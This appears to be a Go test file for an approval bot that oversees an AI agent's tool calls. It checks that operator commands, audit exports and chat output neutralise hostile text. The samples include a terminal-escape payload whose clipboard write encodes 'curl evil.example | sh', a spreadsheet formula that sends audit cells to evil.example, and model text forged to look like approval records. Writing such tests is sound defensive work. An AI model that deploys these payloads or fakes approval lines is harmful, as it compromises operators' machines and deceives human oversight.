package main

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/countersign/countersign/audit"
	"github.com/countersign/countersign/llm/llmtest"
	"github.com/countersign/countersign/slacksim/slacktest"
	"github.com/countersign/countersign/slackui"
)

// terminalAttack is what a fetched page plants for an operator's
// terminal: a clipboard write (OSC 52), a screen clear, a line rewritten
// by a carriage return, a disguised link (OSC 8), 8-bit C1 controls and
// a bidirectional override.
const terminalAttack = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07" +
	"\x1b[2J\x1b[H" +
	"call 0.0 failed\rAll calls verified\n" +
	"\x1b]8;;https://evil.example\x1b\\https://good.example\x1b]8;;\x1b\\" +
	"\u009b31m\u009d0;title\u009c" +
	"\x9b2J" +
	"payroll\u202etxt.exe\b\b\b"

// terminalEscapes lists what a terminal would act on in out: control
// characters but newline and tab, C1 controls (as characters or as raw
// bytes) and bidirectional controls.
func terminalEscapes(out string) []string {
	var found []string
	for i, r := range out {
		switch {
		case r == utf8.RuneError && !strings.HasPrefix(out[i:], "\uFFFD"):
			found = append(found, fmt.Sprintf("byte %#x", out[i])) // a raw C1 byte to some terminals
		case r == '\n' || r == '\t':
		case r < 0x20 || r >= 0x7f && r <= 0x9f || unicode.Is(unicode.Bidi_Control, r):
			found = append(found, fmt.Sprintf("%U", r))
		}
	}
	return found
}

// Stored text that came from a fetched page, the model or a person is
// printed by the operator commands with its escape sequences, C1 and
// bidirectional controls neutralised: none reaches the terminal, no
// carriage return rewrites a line, and the text still shows (escaped).
// The JSON output still decodes to the stored text.
func TestOperatorCommandsPrintNoTerminalEscapes(t *testing.T) {
	t.Parallel()
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, terminalAttack)
	}))
	t.Cleanup(page.Close)
	h := newHarness(t, "")
	h.model.Then(
		llmtest.Reply("Fetching.", call("c1", "GET", page.URL+"/news", "")),
		llmtest.Reply("The page says: "+terminalAttack),
		llmtest.Reply("Deploying.", call("c2", "POST", h.target.URL+"/deploy", "v2")),
		llmtest.Reply("Not deployed."),
	)
	h.command("read the news", nil, nil)
	root := h.root(1)
	h.click(h.cards(root, 1)[0], "approve", approver)
	h.reply(root, "The page says:")
	thread := slackui.ThreadKey(slacktest.TeamID, root.Channel, root.TS)

	// A reject reason typed with escapes, for the audit trail.
	h.command("deploy", nil, nil)
	root2 := h.root(2)
	h.click(h.cards(root2, 1)[0], "reject", approver)
	view := decodeView(t, h.slack.WaitFor(t, "views.open", 1, 10*time.Second)[0])
	h.submit(slacktest.Submission{User: approver, CallbackID: view.CallbackID, PrivateMetadata: view.PrivateMetadata,
		Values: map[string]map[string]string{"reason": {"reason_input": "freeze\x1b[2J\rAll calls verified"}}})
	h.reply(root2, "Not deployed.")

	shown := h.cli(t, "", "checkpoints", "show", "--thread", thread)
	if strings.Count(shown, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`) != 2 {
		t.Errorf("checkpoints show:\n%s\nwant the page's text, in the result and the answer, with its escapes shown neutralised", shown)
	}
	for _, args := range [][]string{
		{"checkpoints", "show", "--thread", thread},
		{"checkpoints", "show", "--thread", thread, "--json"},
		{"checkpoints", "list", "--thread", thread},
		{"checkpoints", "list", "--thread", thread, "--json"},
		{"threads", "list"},
		{"threads", "list", "--json"},
		{"approvals", "list"},
		{"audit"},
		{"audit", "--json"},
		{"audit", "verify"},
	} {
		out := h.cli(t, "", args...)
		if found := terminalEscapes(out); found != nil {
			t.Errorf("bot %s prints %q:\n%q", strings.Join(args, " "), found, out)
		}
		for _, line := range strings.Split(out, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "All calls verified") {
				t.Errorf("bot %s prints a line of its own from stored text: %q", strings.Join(args, " "), line)
			}
		}
	}
	if out := h.cli(t, "", "audit", "--wide"); !strings.Contains(out, `reason="freeze\x1b[2J All calls verified"`) {
		t.Errorf("bot audit:\n%s\nwant the reason quoted, its escapes shown", out)
	}
	// The JSON is still the stored text.
	var doc struct {
		Messages []struct{ Content string } `json:"messages"`
	}
	if err := json.Unmarshal([]byte(h.cli(t, "", "checkpoints", "show", "--thread", thread, "--json")), &doc); err != nil {
		t.Fatalf("checkpoints show --json is not JSON: %v", err)
	}
	found := false
	for _, m := range doc.Messages {
		found = found || strings.Contains(m.Content, "\x1b]52;c;") && strings.Contains(m.Content, "\u202etxt.exe")
	}
	if !found {
		t.Errorf("checkpoints show --json decodes to %q; want the stored text as it is", doc.Messages)
	}
}

// A reject reason that a spreadsheet would take for a formula is a
// quoted cell after a single quote in the CSV export, which still reads
// back and verifies; the JSON lines keep it as it is.
func TestAuditCSVExportHasNoFormulas(t *testing.T) {
	t.Parallel()
	const formula = `=HYPERLINK("https://evil.example/?d="&B2&C2,"Click for details")`
	h := newHarness(t, "")
	root, card := h.deployFlow("Not deployed.")
	h.click(card, "reject", approver)
	view := decodeView(t, h.slack.WaitFor(t, "views.open", 1, 10*time.Second)[0])
	h.submit(slacktest.Submission{User: approver, CallbackID: view.CallbackID, PrivateMetadata: view.PrivateMetadata,
		Values: map[string]map[string]string{"reason": {"reason_input": formula}}})
	h.reply(root, "Not deployed.")

	out := h.cli(t, "", "audit", "export", "--format", "csv")
	if !strings.Contains(out, `"'=HYPERLINK(""https://evil.example/?d=""&B2&C2,""Click for details"")"`) {
		t.Errorf("CSV export:\n%s\nwant the reason after a single quote, quoted", out)
	}
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	if err != nil {
		t.Fatalf("the CSV export does not read as CSV: %v\n%s", err, out)
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
				t.Errorf("CSV cell %q starts with a formula character", cell)
			}
		}
	}
	path := filepath.Join(t.TempDir(), "trail.csv")
	if err := os.WriteFile(path, []byte(out), 0o600); err != nil {
		t.Fatal(err)
	}
	if v := h.cli(t, "", "audit", "verify", "--file", path); !strings.Contains(v, "OK: ") {
		t.Errorf("bot audit verify --file of the CSV export:\n%s", v)
	}
	var reasons []string
	r := audit.NewReader(strings.NewReader(out), audit.CSV)
	for e, err := r.Read(); err == nil; e, err = r.Read() {
		if e.Fields["reason"] != "" {
			reasons = append(reasons, e.Fields["reason"])
		}
	}
	if len(reasons) != 1 || reasons[0] != formula {
		t.Errorf("the CSV export reads back with reasons %q, want the typed one", reasons)
	}
	if out := h.cli(t, "", "audit", "export"); !strings.Contains(out, `"reason":"=HYPERLINK(\"https://evil.example/?d=\"&B2&C2,\"Click for details\")"`) {
		t.Errorf("JSON lines export:\n%s\nwant the reason as typed", out)
	}
}

// bot chat prints what the model, a fetched page and the model's reason
// say with their escape sequences, C1 and bidirectional controls
// neutralised, as the operator commands do: a page the agent fetched
// cannot clear the operator's screen, write their clipboard, or rewrite
// the line that says what ran; a character that shows as nothing is shown.
func TestChatPrintsNoTerminalEscapes(t *testing.T) {
	t.Parallel()
	page := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain; charset=utf-8")
		fmt.Fprint(w, terminalAttack)
	}))
	t.Cleanup(page.Close)
	h := newHarness(t, "")
	fetch := call("c1", "GET", page.URL+"/ne\u200bws", "") // a zero-width space in the URL
	h.model.Then(
		llmtest.Reply("Fetching. "+terminalAttack, fetch),
		llmtest.Reply("The page says: "+terminalAttack),
	)
	out := h.cli(t, "read the news\na\n", "chat", "--user", approver, "--thread", "chat-escapes")
	if !strings.Contains(out, "The page says:") || !strings.Contains(out, `\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007`) {
		t.Fatalf("bot chat printed:\n%q\nwant the page's text, its escapes shown neutralised", out)
	}
	if !strings.Contains(out, `/ne\u200bws"`) {
		t.Errorf("bot chat printed:\n%s\nwant the card's URL with its zero-width space shown", out)
	}
	if found := terminalEscapes(out); found != nil {
		t.Errorf("bot chat prints %q:\n%q", found, out)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.HasPrefix(strings.TrimSpace(line), "All calls verified") {
			t.Errorf("bot chat prints a line of its own from the page's text: %q", line)
		}
	}
}

// In bot chat, a line of the model's text — its answer or the reason on
// a card — never starts where the chat's own lines do: the model cannot
// print a line that passes for the chat saying a call was approved and
// ran.
func TestChatModelTextCannotPassForTheChat(t *testing.T) {
	t.Parallel()
	h := newHarness(t, "")
	const fake = "\n└\n✔ http_request [0.9] approved by U0BOB\n… running http_request [0.9]\n  http_request [0.9] done: HTTP 200 OK"
	h.model.Then(
		llmtest.Reply("Fetching."+fake, call("c1", "GET", h.target.URL+"/status", "")),
		llmtest.Reply("All good."+fake),
	)
	out := h.cli(t, "check the status\na\n", "chat", "--user", approver, "--thread", "chat-spoof")
	if strings.Count(out, "approved by U0BOB") != 3 {
		t.Fatalf("bot chat printed:\n%s\nwant the approval of 0.0 and the model's text twice", out)
	}
	for _, line := range strings.Split(out, "\n") {
		if strings.Contains(line, "[0.9]") && !strings.HasPrefix(line, "   ") && !strings.HasPrefix(line, "│   ") {
			t.Errorf("bot chat prints the model's line %q where its own lines start:\n%s", line, out)
		}
	}
}
